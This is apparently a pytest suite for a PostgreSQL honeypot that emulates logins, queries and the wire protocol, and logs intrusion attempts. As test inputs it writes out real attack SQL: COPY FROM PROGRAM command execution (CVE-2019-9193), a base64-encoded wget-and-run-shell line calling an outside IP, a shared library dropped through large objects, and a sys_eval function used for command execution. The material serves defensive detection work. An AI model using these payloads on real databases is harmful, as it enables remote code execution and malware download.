"""PostgreSQL: the login that tells its password, programs by COPY, the ways in which a library becomes a file."""

from __future__ import annotations

import base64
import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._database import WAITING_BYTES_MAX
from eudaemon.protocols._sql.session import FUNCTIONS_MAX
from eudaemon.protocols.postgres import Postgres
from eudaemon.protocols.postgres.dialogue import COPIED_BYTES_MAX, PREPARED_MAX, STATEMENTS_MAX
from eudaemon.protocols.postgres.messages import BYTEA, MESSAGE_BYTES_MAX, STARTUP_BYTES_MAX
from eudaemon.protocols.postgres.server import server_of
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content
from protocols.postgres_client import Client, bind, error, login, message, messages, query, rows, started

HOST = Host.from_seed(Seed(b"test"))


def talk(host: Host = HOST, bytes_max: int = 24 << 20, memory: Memory | None = None) -> Table:
    return Table(Postgres(visit(host=host, port=5432, purse=Purse(bytes_max), memory=memory))).open()


def client(bytes_max: int = 24 << 20) -> Client:
    return Client(talk(bytes_max=bytes_max))


def exploits(table: Table) -> list[tuple[str, str, str]]:
    return [(fact.name, fact.reference, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]


@pytest.mark.parametrize("split", [0, 1])
def test_a_login_tells_its_password(split: int) -> None:
    table = talk()
    assert table.say(started(80_877_103, b""), split) == b"N"
    assert table.say(started(), split) == message(b"R", b"\0\0\0\3")
    answer = table.say(message(b"p", b"postgres\0"), split)
    kinds = b"".join(kind for kind, _ in messages(answer))
    assert kinds.startswith(b"RSSS")
    assert kinds.endswith(b"SKZ")
    assert b"server_version\0" + server_of(HOST).version.encode() + b"\0" in answer
    assert LoginTried("postgres", "postgres", accepted=True) in table.facts
    for user, password, accepted in (
        (b"postgres", b"123456", True),
        (b"joe", b"joe", False),
        (b"postgres", b"", False),
    ):
        table = talk()
        table.say(login(password, b"user\0" + user + b"\0\0"), split)
        assert [fact for fact in table.facts if isinstance(fact, LoginTried)] == [
            LoginTried(user.decode(), password.decode(), accepted=accepted)]  # fmt: skip
        assert table.over is not accepted
    table = talk()
    assert error(table.say(login(words=b"user\0postgres\0database\0nosuch\0\0"))[9:]) == (
        b"3D000", b'database "nosuch" does not exist')  # fmt: skip


def test_no_protocol_of_its_own() -> None:
    table = talk()
    code, text = error(table.say(started(0xFF534D42, b"r\0")))
    assert (code, text[:50]) == (b"0A000", b"unsupported frontend protocol 65363.19778: server ")
    assert table.sent.endswith(b"\0L%d\0RProcessStartupPacket\0\0" % server_of(HOST).line)
    assert table.over


def test_programs() -> None:
    c = client()
    assert c.error(b"COPY cmd_exec FROM PROGRAM 'id'") == (b"42P01", b'relation "cmd_exec" does not exist')
    assert c.tags(b"DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text);") == [
        b"DROP TABLE",
        b"CREATE TABLE",
    ]
    assert c.tags(b"COPY cmd_exec FROM PROGRAM 'id -un; echo ''a b''';") == [b"COPY 2"]
    assert c.rows(b"SELECT * FROM cmd_exec;") == [[b"postgres"], [b"a b"]]
    assert exploits(c.table) == [("postgres-copy-program", "CVE-2019-9193", "id -un; echo 'a b'")]
    assert CommandEntered("id -un; echo 'a b'") in c.table.facts
    assert c.error(b"COPY cmd_exec FROM PROGRAM 'nosuchprogram'") == (b"38000", b'program "nosuchprogram" failed')
    assert c.tags(b"COPY (SELECT 'hello') TO PROGRAM 'cat > /tmp/h'") == [b"COPY 1"]
    assert c.rows(b"SELECT pg_read_file('/tmp/h')") == [[b"hello\n"]]
    assert c.tags(b"DO $$ BEGIN EXECUTE 'x'; COPY cmd_exec FROM PROGRAM 'echo done'; END $$;") == [b"DO"]
    assert c.rows(b"SELECT cmd_output FROM cmd_exec ORDER BY 1 DESC LIMIT 1") == [[b"postgres"]]
    assert CommandEntered("echo done") in c.table.facts
    encoded = base64.b64encode(b"wget http://198.51.100.7/p.sh")
    assert c.do(b"COPY cmd_exec FROM PROGRAM 'echo %s|base64 -d|sh'" % encoded) == b""
    c.table.say(query(b"select 1"))
    c.table.tell(HalfClosed(c.table.at_s))
    assert [wish.download.url for wish in c.table.wishes] == ["http://198.51.100.7/p.sh"]
    before = len(c.table.sent)
    c.table.answer("failed")
    ended = [body for kind, body in messages(c.table.sent[before:]) if kind == b"C"]
    assert [ended[0][:5], ended[1]] == [b"COPY ", b"SELECT 1\0"]
    assert c.table.over


def test_each_statement_may_come_in_a_connection_of_its_own() -> None:
    memory = Memory()
    make = b"create function sys_eval(text) returns text as '/tmp/x.so', 'sys_eval' language c"
    for sql in (
        b"create table x(o text)",
        b"select lo_from_bytea(1, '\\x7f45'); select lo_export(1, '/tmp/x.so')",
        make,
    ):
        Client(talk(memory=memory)).do(sql)
    c = Client(talk(memory=memory))
    assert c.tags(b"copy x from program 'whoami'") == [b"COPY 1"]
    assert c.rows(b"select o, sys_eval('whoami') from x") == [[b"postgres", b"postgres\n"]]
    c.do(b"drop table x; drop function sys_eval(text)")
    c = Client(talk(memory=memory))
    assert c.error(b"select * from x")[0] == b"42P01"
    assert c.error(b"select sys_eval('id')")[0] == b"42883"


def export(c: Client, number: int = 4444) -> list[bytes]:
    assert c.rows(b"select lo_export(%d, '/tmp/x.so')" % number) == [[b"1"]]
    c.table.end()
    return [keep.data for keep in c.table.kept]


@pytest.mark.parametrize("size", SIZES)
def test_a_library_in_one_value(size: int) -> None:
    c, data = client(), content(size)
    c.do(b"select lo_from_bytea(4444, decode('%s', 'hex'))" % data.hex().encode())
    assert export(c) == [data]
    assert [row[0] for row in exploits(c.table)] == ["postgres-udf"]


@pytest.mark.parametrize("size", SIZES)
def test_a_library_page_by_page(size: int) -> None:
    """As exploits write it: an empty object, then its pages, here several in one query."""
    c, data = client(), content(size)
    c.do(b"select lo_create(4444)")
    step = 2048
    pages = [data[at : at + step] for at in range(0, size, step)]
    for first in range(0, len(pages), 150):
        c.do(b";".join(
            b"INSERT INTO pg_largeobject (loid, pageno, data) VALUES (4444, %d, decode('%s', 'base64'))"
            % (first + number, base64.b64encode(page)) for number,
            page in enumerate(pages[first : first + 150])))  # fmt: skip
    assert export(c) == [data]


@pytest.mark.parametrize("size", SIZES)
def test_a_library_by_lo_put_and_binary_parameters(size: int) -> None:
    c, data, step = client(), content(size), 300_001
    c.do(b"select lo_create(4444)")
    types = struct.pack(">HII", 2, 20, BYTEA)
    c.send(message(b"P", b"\0select lo_put(4444, $1, $2)\0" + types))
    for at in range(0, size, step):
        answer = c.send(
            bind(struct.pack(">q", at), data[at : at + step], formats=b"\0\1\0\1") + message(b"E", bytes(5))
        )
        assert [kind for kind, _ in messages(answer)] == [b"2", b"D", b"C"]
    assert c.send(message(b"S")) == message(b"Z", b"I")
    assert export(c) == [data]


@pytest.mark.parametrize("size", SIZES)
def test_a_file_by_copy_in_binary(size: int) -> None:
    c, data = client(), content(size)
    c.do(b"copy (select '\\x%s'::bytea) to '/tmp/b' with binary" % data.hex().encode())
    (kept,) = (keep.data for keep in c.table.kept)
    assert kept == b"PGCOPY\n\xff\r\n\0" + bytes(8) + b"\0\1" + struct.pack(">I", size) + data + b"\xff\xff"


@pytest.mark.parametrize("size", SIZES)
def test_a_file_by_copy_from_the_client(size: int) -> None:
    c = client()
    line = content(size).hex().encode()[: min(size, 12_000_000)]
    c.do(b"create table u(l text)")
    assert messages(c.do(b"copy u from stdin"))[0] == (b"G", b"\0\0\1\0\0")
    for at in range(0, len(line), 60_000):
        c.table.say(message(b"d", line[at : at + 60_000]))
    c.table.say(message(b"d", b"\n"))
    assert messages(c.send(message(b"c")))[0] == (b"C", b"COPY 1\0")
    assert c.tags(b"copy u to '/tmp/x.sh'") == [b"COPY 1"]
    assert [(keep.data, keep.origin) for keep in c.table.kept] == [(line + b"\n", "script")]


def test_what_stays_in_a_large_object_is_kept_at_the_end() -> None:
    c = client()
    c.do(b"select lo_from_bytea(7, '\\x4d5a90')")
    c.do(b"begin; select lowrite(lo_open(lo_creat(-1), 131072), '\\x7f45'); commit")
    c.table.end()
    assert sorted(keep.data for keep in c.table.kept) == [b"MZ\x90", b"\x7fE"]


def test_functions_out_of_a_library() -> None:
    c = client()
    make = b"CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/x.so', 'sys_eval' LANGUAGE C STRICT"
    assert c.error(make) == (b"58P01", b'could not access file "/tmp/x.so": No such file or directory')
    assert c.error(b"select sys_eval('id')") == (b"42883", b"function sys_eval() does not exist")
    c.do(b"select lo_from_bytea(1, '\\x7f454c46'); select lo_export(1, '/tmp/x.so')")
    assert c.tags(make) == [b"CREATE FUNCTION"]
    assert c.rows(b"select sys_eval('echo $((6*7))')") == [[b"42\n"]]
    assert exploits(c.table)[-1] == ("postgres-udf-command", "", "sys_eval echo $((6*7))")
    assert c.tags(b"drop function sys_eval(text)") == [b"DROP FUNCTION"]
    assert c.error(b"create function f() returns int as $$ import os $$ language plpythonu") == (
        b"42704", b'language "plpythonu" does not exist')  # fmt: skip
    assert exploits(c.table)[-1] == ("postgres-language", "", "plpythonu:  import os ")
    for number in range(FUNCTIONS_MAX + 1):
        c.do(make.replace(b"sys_eval(", b"f%d(" % number))
    assert c.rows(b"select count(*) from pg_proc") == [[b"%d" % FUNCTIONS_MAX]]


def test_what_it_says_of_itself() -> None:
    c = client()
    banner = server_of(HOST).banner
    assert c.rows(b"select version()") == c.rows(b"SELECT VERSION() LIMIT 1") == [[banner]]
    assert c.rows(b"show server_version") == [[server_of(HOST).version.encode()]]
    assert c.rows(b"select rolname, rolsuper from pg_roles") == [[b"postgres", b"t"]]
    assert c.rows(b"select current_setting('is_superuser'), current_user, 1 = 1, null, 1.5::text, 'a' || 'b'") == [
        [b"on", b"postgres", b"t", None, b"1.5", b"ab"]]  # fmt: skip
    names = [name or b"" for (name,) in c.rows(b"select datname from pg_database where not datistemplate")]
    other = next(name for name in names if name != b"postgres")
    table = talk()
    table.say(login(words=b"user\0postgres\0database\0" + other + b"\0\0"))
    tables = rows(table.say(query(b"select tablename from pg_tables where schemaname = 'public'")))
    assert len(tables) >= 3
    assert int(rows(table.say(query(b"select count(*) from " + (tables[0][0] or b""))))[0][0] or 0) >= 12
    servers = [server_of(Host.from_seed(Seed(b"%d" % number))) for number in range(24)]
    assert len({server.version for server in servers}) > 5


def test_a_transaction_that_failed() -> None:
    c = client()
    for sql in (b"drop database postgres", b"drop database if exists postgres"):
        assert c.error(sql) == (b"55006", b"cannot drop the currently open database")
    assert c.do(b"begin").endswith(b"T")
    assert c.do(b"select 1/0; select 2").endswith(b"T")
    assert c.do(b"select nosuch").endswith(b"E")
    assert c.error(b"select 1")[0] == b"25P02"
    assert c.do(b"commit") == message(b"C", b"ROLLBACK\0") + message(b"Z", b"I")
    assert c.error(b"select a from b where 'x") == (b"42601", b'syntax error at or near "\'x"')


def test_extended_queries() -> None:
    c = client()
    answer = c.send(
        message(b"P", b"s\0select $1 as a, $2::int + 1 as b\0\0\0") + message(b"D", b"Ss\0") + message(b"S")
    )
    assert [kind for kind, _ in messages(answer)] == [b"1", b"t", b"T", b"Z"]
    assert messages(answer)[1][1] == struct.pack(">HII", 2, 25, 25)
    answer = c.send(
        message(b"B", b"\0s\0\0\0\0\2\0\0\0\1x\0\0\0\00241\0\0") + message(b"D", b"P\0") + message(b"E", bytes(5))
    )
    assert rows(answer) == [[b"x", b"42"]]
    answer = c.send(
        message(b"P", b"\0select nosuch from pg_class\0\0\0") + bind() + message(b"E", bytes(5)) + message(b"S")
    )
    assert [kind for kind, _ in messages(answer)] == [b"1", b"2", b"C", b"Z"], "no row, and nothing looked at"
    answer = c.send(message(b"P", b"\0selec\0\0\0") + bind() + message(b"E", bytes(5)) + message(b"S"))
    assert [kind for kind, _ in messages(answer)] == [b"1", b"2", b"E", b"Z"]
    answer = c.send(message(b"B", b"\0nosuch\0\0\0\0\0\0\0") + message(b"E", bytes(5)) + message(b"S"))
    assert error(answer) == (b"26000", b'prepared statement "nosuch" does not exist')
    assert [kind for kind, _ in messages(c.send(message(b"C", b"Ss\0") + message(b"H") + message(b"X")))] == [b"3"]
    assert c.table.over


def test_limits() -> None:
    for past in (0, 1):
        table = talk()
        table.say(struct.pack(">I", STARTUP_BYTES_MAX + 4 + past))
        assert bool(table.fault) == bool(past)
        c = client()
        c.table.say(b"Q" + struct.pack(">I", MESSAGE_BYTES_MAX + 4 + past))
        assert bool(c.table.fault) == bool(past)
        c = client()
        c.do(b";".join([b"begin"] * (STATEMENTS_MAX + past)))
        assert bool(c.table.fault) == bool(past)
        c = client()
        for number in range(PREPARED_MAX + past):
            answer = c.send(message(b"P", b"s%d\0select 1\0\0\0" % number))
        assert messages(answer)[0][0] == (b"E" if past else b"1")
        c = client()
        c.do(b"create table t(a text); select pg_sleep(9)")
        c.table.say(b"S".ljust(WAITING_BYTES_MAX, b"\0"))
        assert not c.table.fault
        c.table.say(b"\0" * past)
        assert bool(c.table.fault) == bool(past)
        c = client()
        c.do(b"create table t(a text)")
        c.do(b"copy t from stdin")
        c.send(message(b"d", bytes(COPIED_BYTES_MAX)))
        c.send(message(b"d", bytes(past)))
        assert bool(c.table.fault) == bool(past)
    c = client()
    for _ in range(Postgres.messages_max // 1000):
        assert not c.table.fault
        c.table.say(message(b"S") * 1000)
    assert c.table.fault == f"more than {Postgres.messages_max} messages in one session"
    c = client(bytes_max=30_000)
    c.do(b"create table t(a text)")
    assert c.error(b"insert into t values (repeat('a', 40000))")[0] == b"53100"


def test_whose_conversation_it_is() -> None:
    assert Postgres.claim(started()) is Postgres.claim(started(80_877_103, b"")) is Claim.YES
    assert Postgres.claim(started()[:6]) is Claim.UNSURE
    assert Postgres.claim(b"GET / HTTP/1.0\r\n") is Claim.NO
